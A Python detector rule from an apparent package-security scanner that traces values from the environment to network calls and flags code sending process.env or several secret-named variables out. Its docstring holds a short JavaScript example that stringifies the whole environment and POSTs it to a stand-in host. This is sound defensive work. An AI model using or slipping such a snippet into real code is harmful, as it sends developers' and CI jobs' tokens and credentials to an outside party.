"""The environment is sent out.

*What it does*

Follows values backwards from every call that sends something over a network. It speaks where the whole of `process.env`
may end up there, or several variables whose names promise secrets, however they were passed on: through variables,
functions, spreads, `JSON.stringify` and encodings.

A single variable such as a token that goes to the service it was made for is what it is there for, and not spoken of.

*Why it matters*

Continuous-integration jobs and developers' shells keep tokens for registries, clouds and repositories in their
environment. One line of code sends them all away.

*Example*

    const https = require("https");
    const all = JSON.stringify(process.env);
    const request = https.request({ host: "collect.acme.invalid", method: "POST" });
    request.write(all);
    request.end();
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._flows import Sink, confidence, sinks, softened, when
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Confidence, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="environment-exfiltration",
    title="Sends the environment over the network",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install or run it. If it has run, replace every secret that its environment held.",
    techniques=("T1552.001", "T1041"),
)
#: This many different secrets in one call are not what one service needs: an id and its secret are two.
MANY = 3
_SOURCES = frozenset({BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.ENVIRONMENT_READ})
_TARGETS = frozenset({BehaviourKind.NETWORK})


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each call that sends the environment or several secrets of it."""
    for sink in sinks(subject, _SOURCES, _TARGETS):
        if any(source.kind is BehaviourKind.ENVIRONMENT_DUMP for source in sink.sources):
            yield _finding(subject, sink, "the whole environment", RULE.severity, Confidence.HIGH)
            continue
        secrets = sorted({source.detail for source in sink.sources})
        if len(secrets) >= MANY:
            yield _finding(subject, sink, ", ".join(secrets[:5]), Severity.MEDIUM, Confidence.MEDIUM)


def _finding(subject: Subject, sink: Sink, what: str, severity: Severity, most: Confidence) -> Finding:
    return finding(
        RULE,
        f"{subject.ref} sends {what} over the network {when(sink.file)}",
        *sink.evidence(f"{sink.behaviour.detail} sends {what}"),
        severity=softened(sink.file, severity),
        confidence=confidence(sink.file, most),
    )
